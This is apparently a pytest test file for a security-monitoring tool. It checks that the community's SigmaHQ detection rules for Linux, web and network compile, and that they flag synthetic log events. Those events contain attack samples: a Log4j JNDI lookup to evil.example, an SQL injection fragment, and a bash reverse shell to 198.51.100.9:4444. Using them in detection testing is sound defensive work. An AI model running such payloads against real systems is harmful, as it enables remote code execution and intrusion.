"""The community's rules for Linux, the web and the network: at least 98 % of those that apply convert, and all run."""

from __future__ import annotations

import gzip
import json
from pathlib import Path
from typing import Any

import pytest

from soc_tui.detection.sigma.compiled import Ruleset
from soc_tui.detection.sigma.compiling import compile_folders
from soc_tui.management.sigma import Matcher, usable

pytestmark = pytest.mark.shared


def test_the_rules_of_sigmahq(workspace: Any, shared_data: Path, tmp_path: Path) -> None:
    with gzip.open(shared_data / "knowledge/sigma_linux_web_network.jsonl.gz", "rt") as file:
        for line in file:
            rule = json.loads(line)
            path = tmp_path / rule["path"]
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(rule["yaml"])
    rules = compile_folders([("sigmahq", tmp_path)])
    counts = rules.counts()
    assert sum(counts.values()) == 544
    applicable = counts["converted"] + counts["damaged"]
    assert applicable >= 420
    assert counts["converted"] >= 0.98 * applicable
    assert all(entry.why for entry in rules.entries if entry.state != "converted")
    assert Ruleset.from_json(rules.to_json()) == rules

    checked = usable(workspace.store, rules)
    assert (checked.counts(), checked.checked) == (counts, True)
    web = {"at": 0, "class_uid": 4002, "product": "apache-nginx", "log_name": "access", "src_ip": "203.0.113.9"}
    window = workspace.add([
        {**web, "http_method": "GET", "url_path": "/", "url_query": "x=${jndi:ldap://evil.example/a}"},
        {**web, "http_method": "GET", "url_path": "/", "url_query": "q=union%20select%20", "user_agent": "Mozilla/5.0"},
        {"at": 0, "class_uid": 1007, "product": "auditd", "activity": "launch", "log_name": "syscall", "host": "web1",
         "message": "bash -i >& /dev/tcp/198.51.100.9/4444", "extra": '{"type":"SYSCALL","exe":"/usr/bin/bash"}'},
    ])  # fmt: skip
    titles = {row["title"] for row in Matcher(workspace.store, checked).window(*window).to_pylist()}
    assert {"Log4j RCE CVE-2021-44228 Generic", "SQL Injection Strings In URI", "Bash Interactive Shell"} <= titles
